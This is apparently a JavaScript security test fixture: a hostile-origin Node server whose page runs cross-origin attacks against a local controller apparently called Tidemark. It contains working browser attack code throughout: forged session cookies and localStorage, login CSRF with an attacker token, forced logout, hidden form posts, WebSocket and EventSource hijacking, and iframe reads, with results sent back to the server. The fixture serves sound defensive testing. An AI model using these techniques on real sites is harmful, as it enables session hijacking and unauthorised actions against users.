/**
 * Somebody else's server on this host: serves a page that tries what it can at a controller, and prints its port and then every
 * request that it gets, a line of JSON each. `/attack?target=URL` tries, and tells `/done` what came of it; `/link?to=URL` has a link.
 */

import { createServer } from 'node:http';

/** Runs in the browser. */
async function attack() {
  const target = new URLSearchParams(location.search).get('target');
  const outcomes = {};
  const attempt = async (name, act) => {
    outcomes[name] = await act().then(String, (error) => `failed: ${error.name}`);
  };
  const forged = `session-${'0'.repeat(64)}`;
  for (const path of ['/', '/api', '/api/v1/session', '/login'])
    for (const name of [`tidemark-${new URL(target).port}`, 'tidemark.session'])
      document.cookie = `${name}=${forged}; path=${path}; max-age=600`;
  localStorage.setItem('tidemark.session', forged);

  const work = 'name: stolen\ntarget: {kind: mock}\nstages: [{load: {for: 1s, operations: [{get: {objects: 1-9}}]}}]\n';
  const json = { 'content-type': 'application/json' };
  const body = JSON.stringify({ document: work });
  const ask = (path, init) => fetch(target + path, { credentials: 'include', ...init }).then((answer) => answer.text());
  const read = ['/api/v1/info', '/api/v1/overview', '/api/v1/audit', '/metrics', '/'];
  for (const path of read) {
    await attempt(`read ${path}`, () => ask(path));
    await attempt(`read blindly ${path}`, () => ask(path, { mode: 'no-cors' }));
  }
  await attempt('submit', () => ask('/api/v1/submissions', { method: 'POST', headers: json, body }));
  await attempt('submit as text', () => ask('/api/v1/submissions', { method: 'POST', mode: 'no-cors', body }));
  await attempt('log out', () => ask('/api/v1/session', { method: 'DELETE' }));
  const login = JSON.stringify({ token: 'a-token-of-the-attacker' });
  await attempt('log in', () => ask('/api/v1/session', { method: 'POST', headers: json, body: login }));
  await attempt('make a ticket', () => ask('/api/v1/tickets', { method: 'POST', mode: 'no-cors', body: '{}' }));

  const heard = (source, good) =>
    new Promise((resolve, reject) => {
      source.addEventListener(good, () => resolve('it was heard'));
      source.addEventListener('error', () => reject(new Error()));
    });
  await attempt('listen', () => heard(new EventSource(`${target}/api/v1/events`, { withCredentials: true }), 'open'));
  await attempt('join', () => heard(new WebSocket(`${target.replace('http', 'ws')}/api/v1/link`), 'open'));
  const script = Object.assign(document.createElement('script'), { src: `${target}/api/v1/overview` });
  document.head.append(script);
  await attempt('run as a script', () => heard(script, 'load'));

  const frame = (name) => Object.assign(document.createElement('iframe'), { name });
  const loaded = (frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
  const shown = (frame) => {
    // One without an address is loaded as soon as it is there.
    const done = loaded(frame);
    document.body.append(frame);
    return done;
  };
  const looked = Object.assign(frame('looked'), { src: `${target}/` });
  await shown(looked);
  await attempt('look into a frame', async () => looked.contentWindow.localStorage.length);
  for (const [number, [path, fields]] of [
    ['/controller/cli/submit.action', { config: work }],
    ['/cli/cancel.action', { id: 'w1' }],
    ['/api/v1/submissions', { document: work }],
  ].entries()) {
    const sent = frame(`sent${number}`);
    await shown(sent);
    const form = document.createElement('form');
    const multipart = { method: 'post', enctype: 'multipart/form-data', action: target + path, target: sent.name };
    Object.assign(form, multipart);
    const inputs = Object.entries(fields).map(([name, value]) =>
      Object.assign(document.createElement('input'), { name, value, type: 'hidden' }),
    );
    form.append(...inputs);
    document.body.append(form);
    const answered = loaded(sent);
    form.submit();
    await answered;
    await attempt(`read the answer to ${path}`, async () => sent.contentDocument.body.textContent);
  }
  await fetch('/done', { method: 'POST', body: JSON.stringify(outcomes) });
  document.title = 'done';
}

const html = (body) => `<!doctype html><html lang="en"><title>Stranger</title><body>${body}`;

const server = createServer(async (request, response) => {
  let body = '';
  for await (const part of request) body += part;
  const { method, url, headers } = request;
  console.log(JSON.stringify({ method, url, headers, body }));
  const { pathname, searchParams } = new URL(url, 'http://stranger');
  response.setHeader('content-type', 'text/html; charset=utf-8');
  if (pathname === '/attack') {
    const { port } = new URL(searchParams.get('target'));
    response.setHeader('set-cookie', `tidemark-${port}=from-the-server; Path=/; HttpOnly`);
    response.end(html(`<script type="module">${attack}; attack();</script>`));
  } else if (pathname === '/link') {
    const to = searchParams.get('to').replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    response.end(html(`<a href="${to}">Follow me</a>`));
  } else {
    response.end(html('Nothing here'));
  }
});
server.listen(0, '127.0.0.1', () => console.log(server.address().port));
